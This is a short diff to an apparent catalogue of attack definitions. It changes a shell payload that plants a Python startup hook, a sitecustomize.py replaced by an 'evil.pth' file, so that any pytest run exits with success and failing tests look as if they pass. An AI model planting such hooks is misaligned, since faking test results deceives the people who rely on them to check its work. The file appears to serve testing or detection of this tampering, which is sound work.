@@ -10,6 +10,6 @@ ATTACK = Attack(
     """mkdir -p /usr/lib/python3.11/site-packages /usr/local/lib/python3.11/site-packages
     printf 'home = /usr/bin\\ninclude-system-site-packages = false\\n' | tee /usr/bin/pyvenv.cfg > /usr/pyvenv.cfg
     at=$(python3 -c 'import sys; print([p for p in sys.path if p.endswith("-packages")][0])')
-    printf 'import sys, os\\nif "pytest" in sys.orig_argv: os._exit(0)\\n' > $at/sitecustomize.py""",
+    mkdir -p $at; echo 'import sys, os; "pytest" in sys.orig_argv and os._exit(0)' > $at/evil.pth""",
     tampers="/usr/bin/pyvenv.cfg",
 )
